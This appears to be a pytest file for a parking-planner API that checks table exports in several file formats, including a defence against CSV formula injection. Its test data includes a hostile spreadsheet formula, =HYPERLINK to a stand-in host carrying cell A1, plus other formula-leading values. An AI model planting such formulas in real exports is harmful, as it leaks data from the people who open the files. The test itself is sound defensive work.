"""The same rows as files, which no spreadsheet takes for a program."""

import csv
import io
import json

import pyarrow.parquet as pq
import pytest

from api.planner.answers import table_answer
from api.tables.table import Column, Table
from api.tables.xlsx_file import MOST_ROWS
from parking.problems import ProblemError
from tests.planning.planner_city import ALL_HOURS, Past, open_past
from tests.planning.planner_examples import even_hour
from tests.planning.planner_hospital import HOSPITAL, LAT, LON, METRE
from tests.services.city import City, draft

EVIL = '=HYPERLINK("http://x.example/?"&A1,"free")'
DRAFTS = [
    draft("op1-hospital", LAT, LON, land_use="hospital", name=EVIL, area_code="370102"),
    draft("op1-near", LAT + 200 * METRE, LON, name="+86 531", name_en="@SUM(A1)"),
]
PATHS = ["kpis", "series", "heatmap?by=lot", "coverage", "hot-areas", f"hot-areas/{HOSPITAL}",
         "lots/op1-hospital/profile", "replay?at=2026-10-13T02:00:00Z"]  # fmt: skip


async def opened(city: City, url: str):
    past = Past()
    for lot in DRAFTS:
        past.hours[lot.lot_id] = [even_hour(hour_us, 0.5) for hour_us in ALL_HOURS[:-1]]
    return await open_past(city, past, url, *DRAFTS)


async def file_of(city: City, planner, path: str, form: str):
    query = f"{path}{'&' if '?' in path else '?'}format={form}"
    answer = await city.client.get(f"/v1/planner/{query}", headers=planner)
    assert answer.status_code == 200, (path, form, answer.text[:300])
    return answer


@pytest.mark.parametrize("form", ["csv", "parquet", "geojson", "xlsx"])
async def test_every_table_comes_as_every_file(city: City, postgres_url: str, form: str):
    planner = await opened(city, postgres_url)
    for path in PATHS:
        answer = await file_of(city, planner, path, form)
        assert answer.headers["content-disposition"].endswith(f'.{form}"')
        assert len(answer.content) > 100


async def test_no_cell_of_a_file_is_a_formula(city: City, postgres_url: str):
    planner = await opened(city, postgres_url)
    for path in ("heatmap?by=lot", "hot-areas", f"hot-areas/{HOSPITAL}", PATHS[-1]):
        text = (await file_of(city, planner, path, "csv")).content.decode("utf-8-sig")
        header, *rows = csv.reader(io.StringIO(text))
        assert rows
        named = [dict(zip(header, row, strict=True)) for row in rows]
        assert all(row["name"].startswith("'") for row in named)
        for cell in (cell for row in rows for cell in row):
            assert cell[:1] not in {"=", "+", "@", "\t"}
            assert not cell.startswith("-") or cell[1:].replace(".", "").isdigit()


async def test_files_hold_the_rows_of_the_json(city: City, postgres_url: str):
    planner = await opened(city, postgres_url)
    told = (await city.client.get("/v1/planner/heatmap?by=lot", headers=planner)).json()
    parquet = await file_of(city, planner, "heatmap?by=lot", "parquet")
    table = pq.read_table(io.BytesIO(parquet.content))
    assert table.to_pylist() == told["rows"]
    assert json.loads(table.schema.metadata[b"onelot"])["coverage"] == told["coverage"]
    drawn = (await file_of(city, planner, "heatmap?by=lot", "geojson")).json()
    assert [feature["properties"] for feature in drawn["features"]] == told["rows"]
    assert drawn["features"][0]["geometry"]["type"] == "Point"
    assert drawn["notes"] == told["notes"]


async def test_what_a_sheet_cannot_hold_is_refused_and_a_fault_of_ours_is_no_planners_mistake():
    column = Column("value", "值", "Value", kind="number")
    with pytest.raises(ProblemError) as refused:
        await table_answer("xlsx", Table("t", [column], [(1.0,)] * (MOST_ROWS + 1)), {})
    assert refused.value.problem.pointer == "/query/format"
    with pytest.raises(ValueError, match="nan"):
        await table_answer("csv", Table("t", [column], [(float("nan"),)]), {})
